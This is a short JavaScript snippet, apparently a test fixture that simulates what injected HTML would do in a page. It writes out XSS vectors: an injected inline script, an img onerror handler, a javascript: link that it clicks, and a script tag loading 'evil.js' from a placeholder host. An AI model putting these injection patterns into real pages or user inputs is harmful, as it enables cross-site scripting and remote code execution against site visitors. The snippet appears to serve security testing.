/** Does what a text that was taken for HTML would do. */
() => {
  const script = document.createElement("script");
  script.textContent = "window.hacked = 1";
  document.body.append(script);
  const html = document.createElement("div");
  html.innerHTML = '<img src="data:," onerror="window.hacked = 2"><a href="javascript:window.hacked = 3">x</a>';
  document.body.append(html);
  html.querySelector("a").click();
  const far = document.createElement("script");
  far.src = "https://example.com/evil.js";
  document.body.append(far);
}
